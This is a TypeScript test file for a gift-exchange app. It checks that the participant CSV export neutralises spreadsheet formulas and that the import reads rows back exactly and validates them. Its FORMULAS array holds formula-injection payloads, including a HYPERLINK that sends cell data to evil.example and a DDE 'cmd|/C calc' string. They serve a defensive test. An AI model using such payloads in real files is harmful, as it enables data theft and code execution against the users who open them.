import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createTestApp, exchangeInput, type TestApp } from '../../support/test-app';

/**
 * Issue #13 (CSV formula injection) and #11 (the contract is the only source of policy): what the
 * export writes cannot run in a spreadsheet, the import reads it back exactly, and the import
 * refuses what participants.add refuses, with the same words.
 */
let t: TestApp;
let exchangeId: number;
beforeEach(async () => {
  t = await createTestApp();
  exchangeId = (await t.ok('exchanges.create', exchangeInput())).id;
});
afterEach(() => t.close());

// Also after spaces, which LibreOffice's "Trim spaces" import option removes before it runs the formula.
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&B2,"Click")', '+1+cmd|/C calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '  =WEBSERVICE(B2)', ' @SUM(A1)'];
const content = (csv: string) => (parse(csv, { columns: true }) as Array<Record<string, string>>).map((r) => [r.name, r.email, r['gift ideas'], r.reminders]);

describe('participants.export', () => {
  it('writes no cell a spreadsheet would run as a formula', async () => {
    await t.ok('participants.add', { exchangeId, name: FORMULAS[0]!, email: 'ann@example.com' });
    for (const [i, ideas] of FORMULAS.entries()) await t.ok('participants.add', { exchangeId, name: `P${i}`, email: `p${i}@example.com`, giftIdeas: ideas });
    const cells = (parse((await t.ok('participants.export', { exchangeId })).csv) as string[][]).flat();
    const live = cells.filter((cell) => /^ *[=+\-@\t\r]/.test(cell));
    expect(live).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[0]}`);
  });

  it('export → import into a fresh exchange → export gives the same names, emails, ideas and reminders', async () => {
    const people = [
      { name: FORMULAS[0]!, email: 'ann@example.com', giftIdeas: "'Tis a book\nhttps://example.com/book  ", remindersEnabled: false },
      { name: "'=not a formula", email: 'bob@example.com', giftIdeas: FORMULAS.slice(1).join('\n'), remindersEnabled: true },
      ...FORMULAS.map((ideas, i) => ({ name: `P${i}`, email: `p${i}@example.com`, giftIdeas: ideas, remindersEnabled: i % 2 === 0 })),
    ];
    for (const p of people) await t.ok('participants.add', { exchangeId, ...p });
    const quitter = await t.ok('participants.add', { exchangeId, name: 'Quinn', email: 'quinn@example.com' });
    t.deps.db.sqlite.prepare('update participants set withdrawn_at = 1, email_confirmed_at = 1 where id = ?').run(quitter.id);
    const first = (await t.ok('participants.export', { exchangeId })).csv;

    const copy = (await t.ok('exchanges.create', exchangeInput({ name: 'Copy' }))).id;
    const imported = await t.ok('participants.import', { exchangeId: copy, csv: first, dryRun: false });
    expect(imported.added).toBe(people.length);
    expect(imported.rows.find((r) => r.email === 'quinn@example.com')).toMatchObject({ error: null, note: 'Skipped: marked as withdrawn.' });
    const second = (await t.ok('participants.export', { exchangeId: copy })).csv;
    expect(content(second)).toEqual(content(first).filter(([, email]) => email !== 'quinn@example.com'));
    // "email confirmed" is read but never believed: only a link proves an address.
    expect((await t.ok('participants.list', { exchangeId: copy })).some((p) => p.emailConfirmed)).toBe(false);
  });
});

describe('participants.import checks rows as participants.add does', () => {
  it('refuses the same names with the same message', async () => {
    for (const name of ['Ann\nSmith', 'Ann\u2028Smith', 'Ann\u0085Smith', 'Ann\u0000', '  ', 'x'.repeat(101)]) {
      const api = await t.call('participants.add', { exchangeId, name, email: 'ann@example.com' });
      expect(api.ok).toBe(false);
      const message = api.ok ? '' : api.error.issues![0]!.message;
      const csv = `name,email\n"${name}",ann@example.com\n`;
      const preview = await t.ok('participants.import', { exchangeId, csv, dryRun: true });
      expect(preview.rows[0]!.error).toBe(message);
    }
  });

  it('normalises names like the API and reads the reminders column', async () => {
    const csv = 'name,email,reminders\n"  Ann \u00a0 Lee ",ann@example.com,no\nBob,bob@example.com,\nCy,cy@example.com,maybe\n';
    const preview = await t.ok('participants.import', { exchangeId, csv, dryRun: true });
    expect(preview.rows.map((r) => [r.name, r.error])).toEqual([
      ['Ann Lee', null],
      ['Bob', null],
      ['Cy', 'Write yes or no in the reminders column.'],
    ]);
    await t.ok('participants.import', { exchangeId, csv: csv.split('\n').slice(0, 3).join('\n'), dryRun: false });
    expect((await t.ok('participants.list', { exchangeId })).map((p) => [p.name, p.remindersEnabled])).toEqual([
      ['Ann Lee', false],
      ['Bob', true],
    ]);
  });

  it('names each row by the line where it starts in the file, after blank lines and cells of several lines', async () => {
    const csv = [
      '', // 1: a blank line before the header
      'name,email,gift ideas', // 2
      'Ann,ann@example.com,"a book', // 3
      'a scarf"', // 4
      '', // 5
      'Bob,not-an-address,', // 6
      'Cy,cy@example.com,"socks\n\nmore socks"', // 7–9 (LF inside, CRLF between rows)
      '', // 10
      'Ann,ann@example.com,', // 11
      '',
    ].join('\r\n');
    const preview = await t.ok('participants.import', { exchangeId, csv, dryRun: true });
    expect(preview.rows.map((r) => [r.name, r.line])).toEqual([
      ['Ann', 3],
      ['Bob', 6],
      ['Cy', 7],
      ['Ann', 11],
    ]);
    expect(preview.rows[3]!.error).toBe('Ann <ann@example.com> is also on line 3.');
    const refused = await t.call('participants.import', { exchangeId, csv, dryRun: false });
    expect(refused).toMatchObject({ ok: false, error: { message: '2 rows need fixing first (line 6, 11).' } });
  });

  it('keeps a character that straddles two of the parser’s chunks whole (a 🎁 at 16 KiB into a long file)', async () => {
    const header = 'name,email,gift ideas\n';
    // About 15 000 characters of ordinary rows, then Ann's gift ideas up to and across 16 KiB.
    const filler = Array.from({ length: 210 }, (_, i) => `P${i},p${i}@example.com,${'book '.repeat(10)}\n`).join('');
    const before = `${header}${filler}Ann,ann@example.com,`;
    // The 🎁 (two UTF-16 units) begins on the last unit of the first 16 KiB chunk.
    const ideas = `${'x'.repeat(16 * 1024 - before.length - 1)}🎁 wrapped`;
    await t.ok('participants.import', { exchangeId, csv: `${before}${ideas}\n`, dryRun: false });
    expect((await t.ok('participants.list', { exchangeId })).find((p) => p.name === 'Ann')!.giftIdeas).toBe(ideas);
  });

  it('counts the participants at most once per import (only to check a maximum), not once per row', async () => {
    const csv = ['name,email', ...Array.from({ length: 50 }, (_, i) => `P${i},p${i}@example.com`)].join('\n');
    const counts: string[] = [];
    const db = t.deps.db;
    const first = db.first.bind(db);
    db.first = ((query: Parameters<typeof db.first>[0]) => {
      const { sql } = query.compile();
      if (/count\(\*\)/i.test(sql) && /from "participants"/i.test(sql)) counts.push(sql);
      return first(query);
    }) as typeof db.first;
    try {
      expect((await t.ok('participants.import', { exchangeId, csv, dryRun: false })).added).toBe(50);
    } finally {
      db.first = first;
    }
    expect(counts.length).toBeLessThanOrEqual(1);
  });
});
